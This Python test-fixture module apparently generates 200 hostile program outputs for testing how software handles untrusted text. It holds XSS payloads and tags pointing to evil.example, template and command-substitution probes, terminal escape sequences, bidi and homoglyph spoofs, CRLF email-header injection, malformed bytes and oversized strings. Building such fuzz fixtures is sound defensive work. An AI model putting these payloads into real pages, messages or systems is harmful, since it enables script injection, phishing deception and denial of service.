"""Outputs of programs that try to be more than text: 200 of them, the same ones each time."""

import random
from collections.abc import Iterator
from itertools import chain, islice, product
from typing import Final

COUNT: Final = 200

_SCRIPTS: Final = [
    "<script>window.pwned = 1</script>", "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<a href='javascript:window.pwned=1'>click</a>",
    "<style>*{display:none}</style>", "<base href='https://evil.example/'>", "<form action=//evil.example><button>x",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example></object>", "<details open ontoggle=window.pwned=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
    "<input autofocus onfocus=window.pwned=1>", "<video><source onerror=pwned=1>",
]  # fmt: skip
_ENDS: Final = [
    "", "</textarea>", "</pre>", "</script>", "</title>", "</style>", "</template>", "</noscript>", "-->", "]]>", '"',
]  # fmt: skip
_TEMPLATES: Final = [
    "{{ 7 * 7 }}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s {name} %s", "{{ config }}",
    "{{ ''.__class__.__mro__ }}", "`id`", "$(id)",
]  # fmt: skip
_CONTROLS: Final = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x00", "a\x00b", "\x07\x08\x08\x08", "\x7f", "\x9b31m", "\r", "line\rover", "\x0b\x0c", "\x1a", "\x85",
    "\x1b[?1049h",
]  # fmt: skip
_DIRECTIONS: Final = [
    "\u202etxt.exe", "user\u202e\u2066// admin\u2069\u2066", "\u202a\u202b\u202c\u202d", "\u2066a\u2067b\u2068c\u2069",
    "\u200e\u200f", "\u061c", "سلام \u202eabc\u202c دنیا", "\u202e" * 500,
]  # fmt: skip
_INVISIBLE: Final = [
    "pay\u200bpal", "pay\u2060pal", "\ufeffBOM", "\u00adsoft", "\u180e", "\u2061\u2062\u2063\u2064", "\u206a\u206f",
    "\U000e0041\U000e0042\U000e007f", "\ufff9a\ufffab\ufffb", "line\u2028separator", "paragraph\u2029separator",
]  # fmt: skip
_LOOKALIKES: Final = ["раураl.com", "аdmin", "ехаmple.com", "ｇｏｏｇｌｅ", "𝐛𝐨𝐥𝐝", "Ⅷ", "ﬁ", "ß ẞ", "İı", "。example"]
_HEAPS: Final = [
    "Z" + "\u0301" * 2000, "ก" + "\u0e49" * 300, "ᄀ" * 3000, "👩‍👩‍👧‍👦" * 300, "\U0001f1e6" * 999, "﷽" * 200,
    "A" * 200_000, "A " * 100_000, "\n" * 50_000, "\t" * 5000, " " * 100_000, "A" * 10_000_000, "<b>" * 100_000,
]  # fmt: skip
_HEADERS: Final = [
    "Subject: hi\r\nBcc: victim@evil.example",
    "\r\n\r\n<html>",
    "HTTP/1.1 200 OK\r\n\r\n",
    "data: x\n\nevent: y",
]
_BYTES: Final = [b"\xff\xfe\xfd", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"ok\x80ok", bytes(range(256))]


def hostile_outputs() -> list[bytes]:
    """Return the outputs as bytes, which need not be UTF-8."""
    texts = chain(
        _SCRIPTS, _TEMPLATES, _CONTROLS, _DIRECTIONS, _INVISIBLE, _LOOKALIKES, _HEAPS, _HEADERS,
        (f"{end}{script}" for end, script in product(_ENDS[1:6], _SCRIPTS[:8])), _mixtures(),
    )  # fmt: skip
    return [*islice(dict.fromkeys([*_BYTES, *(text.encode() for text in islice(texts, 2 * COUNT))]), COUNT)]


def _mixtures() -> Iterator[str]:
    """Yield any number of mixtures of all kinds."""
    chance = random.Random(18)
    pieces = [*_SCRIPTS, *_ENDS, *_TEMPLATES, *_CONTROLS, *_DIRECTIONS, *_INVISIBLE, *_LOOKALIKES, *_HEADERS]
    while True:
        yield "".join(chance.choices(pieces, k=chance.randrange(2, 12)))
